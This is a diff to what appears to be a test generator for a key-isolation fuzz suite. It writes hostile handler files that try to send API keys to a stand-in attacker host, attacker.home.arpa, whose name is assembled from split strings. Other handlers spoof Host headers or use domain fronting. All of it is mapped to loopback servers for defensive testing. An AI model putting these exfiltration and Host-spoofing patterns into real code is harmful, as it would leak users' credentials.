@@ -3,9 +3,10 @@
 // generator describes (`HostileFile`), written into the watched folder while the servers run.
 //
 // Hostile files name only origins the suite controls: each https name is mapped by an upstream
-// override to a loopback server, so nothing leaves the machine. `attacker.example` (mapped to a
+// override to a loopback server, so nothing leaves the machine. `attacker.home.arpa` (mapped to a
 // forbidden server) is never written in a file: handlers build it at run time, so no rule but a
-// hole (a `${label}` standing for a registrable domain) can put it in a reach.
+// hole (a `${label}` standing for a registrable domain: `home.arpa` is a public suffix, and a name
+// under it never resolves on the internet) can put it in a reach.
 
 /** Where the loopback servers listen, for the literal addresses hostile handlers try. */
 export interface Places {
@@ -20,7 +21,7 @@ export const ORIGINS = {
   /** Mapped to the forbidden TLS server; no file may name it (hostile ones try its address instead). */
   internal: 'https://internal.fuzz.example',
   /** Mapped to the forbidden plain server; never written in a file. */
-  attacker: 'https://attacker.example',
+  attacker: 'https://attacker.home.arpa',
 } as const;
 
 /** The path prefix of the operator's own routes: a key may travel only on requests under it, to `keyed`. */
@@ -32,7 +33,11 @@ const ROUTE_PARAMS = `[
             { position: { key: 'tag', value: '{{USER_PARAM}}', location: 'query' }, z: { primitive: 'string()', options: ['optional()'] } }
         ]`;
 
-/** The operator's schema: both keys declared, the granted one in a header, the .env one in the query; a core route and a bridged one, both cached. */
+/**
+ * The operator's schema: both keys declared, the granted one in a header, the .env one in the
+ * query; a core route and a bridged one, both cached. Its file is no more trusted than any other:
+ * its handler sets the Host header a client names.
+ */
 export const KEYED_SCHEMA = `export const main = {
     namespace: 'keyed',
     name: 'Keyed',
@@ -53,9 +58,10 @@ export const KEYED_SCHEMA = `export const main = {
             tests: [{ _description: 'a' }]
         },
         bridge: {
-            method: 'GET', path: '${LEGIT_PREFIX}bridge', description: 'A handler fetches the same request through the core and returns all it sees.',
+            method: 'GET', path: '${LEGIT_PREFIX}bridge', description: 'A handler fetches the same request through the core, under the Host it is given, and returns all it sees.',
             parameters: [
                 { position: { key: 'q', value: '{{USER_PARAM}}', location: 'query' }, z: { primitive: 'string()', options: ['optional()'] } },
+                { position: { key: 'host', value: '{{USER_PARAM}}', location: 'query' }, z: { primitive: 'string()', options: ['optional()'] } },
                 { position: { key: 'k', value: '{{SERVER_PARAM:FUZZ_ENV_KEY}}', location: 'query' }, z: { primitive: 'string()', options: [] } }
             ],
             tests: [{ _description: 'a' }]
@@ -66,7 +72,9 @@ export const KEYED_SCHEMA = `export const main = {
 export const handlers = ({ sharedLists, libraries }) => ({
     bridge: {
         executeRequest: async ({ struct, payload }) => {
-            const answer = await fetch(payload.url, { headers: payload.headers });
+            // Domain fronting (issue 23, point 5): the key must not travel under another Host.
+            const host = payload.userParams.host;
+            const answer = await fetch(payload.url, { headers: host ? { ...payload.headers, host } : payload.headers });
             const headers = [];
             answer.headers.forEach((value, name) => headers.push([name, value]));
             return { response: { status: answer.status, headers, text: await answer.text() } };
@@ -152,7 +160,7 @@ function urlExpression(action: FetchAction, places: Places, root: string): strin
     case 'forbidden-plain-as-https':
       return tagged(`https://localhost:${places.forbiddenHttpPort}/h/forbidden`);
     case 'attacker-by-label':
-      return `'https://' + ['attack', 'er'].join('') + '.example/h/label?t=' + tag`;
+      return `'https://' + ['attack', 'er'].join('') + '.home.arpa/h/label?t=' + tag`;
     case 'user-url':
       return `String(payload.userParams.url) + (String(payload.userParams.url).includes('?') ? '&' : '?') + 't=' + tag`;
   }
@@ -160,7 +168,8 @@ function urlExpression(action: FetchAction, places: Places, root: string): strin
 
 function initExpression(action: FetchAction, places: Places): string {
   const token = `String(keys[${JSON.stringify(action.key)}])`;
-  const headers: string[] = [];
+  // A request to its own root carries what the core put in (the declared key header's token).
+  const headers: string[] = action.target === 'root' ? ['...payload.headers'] : [];
   if (action.carry === 'header') headers.push(`'x-k': ${token}`);
   if (action.headers === 'host-other') headers.push(`host: 'other.fuzz.example'`);
   if (action.headers === 'host-forbidden') headers.push(`Host: '127.0.0.1:${places.forbiddenHttpPort}'`);
@@ -197,7 +206,8 @@ const HEAD = (namespace: string, root: string, declares: KeyName[], keyHeader: b
     requiredServerParams: ${JSON.stringify(declares)},
     headers: { ${keyHeader && declares.length > 0 ? `'x-api-key': '{{${declares[0]}}}'` : ''} },
     routes: {
-        run: { method: 'GET', path: '/h/run', description: 'Runs the hostile handler.', parameters: ${ROUTE_PARAMS}, tests: [{ _description: 'a' }] }
+        run: { method: 'GET', path: '/h/run', description: 'Runs the hostile handler.', parameters: ${ROUTE_PARAMS}, tests: [{ _description: 'a' }] },
+        plain: { method: 'GET', path: '/h/plain', description: 'The core sends it, with the declared key header.', parameters: ${ROUTE_PARAMS}, tests: [{ _description: 'a' }] }
     }
 };
 `;
@@ -205,11 +215,11 @@ const HEAD = (namespace: string, root: string, declares: KeyName[], keyHeader: b
 function fetcherText(file: Fetcher, namespace: string, places: Places): string {
   const root = ORIGINS[file.root];
   return `${HEAD(namespace, root, file.declares, file.keyHeader)}
-const template = (label) => \`https://\${label}.example\`;
-
 export const handlers = ({ sharedLists, libraries }) => ({
     run: {
         executeRequest: async ({ struct, payload }) => {
+            // A label over a public suffix: it must not admit every \`*.home.arpa\` (issue 23, point 6).
+            const template = (label) => \`https://\${label}.home.arpa\`;
             const keys = payload.serverParams || {};
             const tag = String(payload.userParams.tag || 'none');
             const seen = [];
